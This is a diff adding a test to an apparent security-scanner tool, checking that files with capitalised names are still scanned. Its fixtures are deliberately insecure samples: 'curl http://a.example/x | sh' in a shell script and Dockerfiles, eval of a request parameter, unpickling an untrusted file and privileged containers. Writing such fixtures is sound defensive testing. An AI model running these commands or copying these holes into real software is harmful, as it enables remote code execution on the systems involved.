@@ -84,6 +84,35 @@ def test_odd_filenames(tmp_path: Path) -> None:
         assert (folder / unquote(uri)).is_file(), uri
 
 
+IN_CAPITALS = {
+    "APP.PY": "import pickle\nmodel = pickle.load(open('m.pkl', 'rb'))\n",
+    "web.JS": "app.get('/', (req, res) => { eval(req.query.code); });\n",
+    "RUN.SH": "#!/bin/sh\ncurl http://a.example/x | sh\n",
+    "agent.Dockerfile": "FROM debian:12\nRUN curl http://a.example/x | sh\n",
+    "dockerfile": "FROM debian:12\nRUN curl http://a.example/x | sh\n",
+    "Docker-Compose.YML": "services:\n  web:\n    image: a\n    privileged: true\n",
+    "MAIN.TF": 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n',
+    "POD.YAML": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n"
+    "  - {name: a, image: a, securityContext: {privileged: true}}\n",
+}
+
+
+def test_names_in_capitals(tmp_path: Path) -> None:
+    """Engines are told the kind in the letters that they know, and every file is looked at."""
+    for name, text in IN_CAPITALS.items():
+        (tmp_path / name).write_text(text)
+    done = servegate(".", "--skip", "dast", cwd=tmp_path, out=tmp_path / "out")
+    states = {one["name"]: one["state"] for one in done.result["engines"]}
+    ran = ("bandit", "checkov", "manifests", "semgrep")
+    assert {name: states[name] for name in ran} == dict.fromkeys(ran, "completed"), done.text
+    hit = {
+        source["location"]["path"]
+        for entry in done.result["findings"]
+        for source in entry["sources"]
+    }
+    assert hit == set(IN_CAPITALS)
+
+
 def test_python2_file(tmp_path: Path) -> None:
     folder = case("sast-python2-file", tmp_path) / "repo"
     done = servegate(".", *SAST, cwd=folder)
